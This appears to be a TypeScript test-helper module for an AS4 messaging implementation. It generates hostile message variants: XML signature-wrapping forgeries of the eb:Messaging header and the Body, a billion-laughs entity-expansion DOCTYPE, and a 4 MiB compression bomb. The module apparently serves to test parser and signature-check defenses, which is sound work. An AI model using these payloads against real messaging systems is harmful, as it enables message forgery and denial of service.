import type { Packed } from '../../../protocols/as4';
import { editBytes } from '../../../protocols/as4/corpus/entry';

const MESSAGING = /<eb:Messaging [\s\S]*?<\/eb:Messaging>/;
const BODY = /<env:Body [^>]*>[\s\S]*?<\/env:Body>/;
const ID = / wsu:Id="[^"]*"/;
const aside = (signed: string): string => `<x:Aside xmlns:x="urn:aside">${signed}</x:Aside>`;

/**
 * Signature wrapping: the signed eb:Messaging stands aside, still matching its digest, and an unsigned copy under another
 * MessageId stands in its place.
 */
export function wrapHeader(packed: Packed, messageId: string, replacement: string): Packed {
  return editBytes(packed, (text) => {
    const signed = MESSAGING.exec(text)?.[0] ?? '';
    const unsigned = signed.replace(ID, '').replace(messageId, replacement);
    return text.replace(signed, '').replace('<env:Header>', () => `<env:Header>${unsigned}${aside(signed)}`);
  });
}

/** The same with the Body: the signed empty one is moved into the header, an unsigned one takes its place. */
export function wrapBody(packed: Packed): Packed {
  return editBytes(packed, (text) => {
    const signed = BODY.exec(text)?.[0] ?? '';
    return text.replace(signed, signed.replace(ID, '')).replace('</env:Header>', () => `${aside(signed)}</env:Header>`);
  });
}

/** A document type before the envelope; `nested` adds the entities of the billion-laughs attack and uses the last one. */
export function withDoctype(packed: Packed, nested: boolean): Packed {
  const entities = nested ? Array.from({ length: 9 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('') : '';
  const use = nested ? '<x:Load xmlns:x="urn:example:load">&e9;</x:Load>' : '';
  return editBytes(packed, (text) =>
    text.replace('<env:Envelope', `<!DOCTYPE Envelope [<!ENTITY e0 "harm">${entities}]><env:Envelope`).replace('<env:Header>', `<env:Header>${use}`));
}

/** XML of one element of 4 MiB whose text compresses a thousandfold. */
export function bomb(): string {
  const text = ' '.repeat(4 * 1024 * 1024);
  return `<IE3R01 xmlns="urn:wco:datamodel:eu:ics2:2">${text}</IE3R01>`;
}
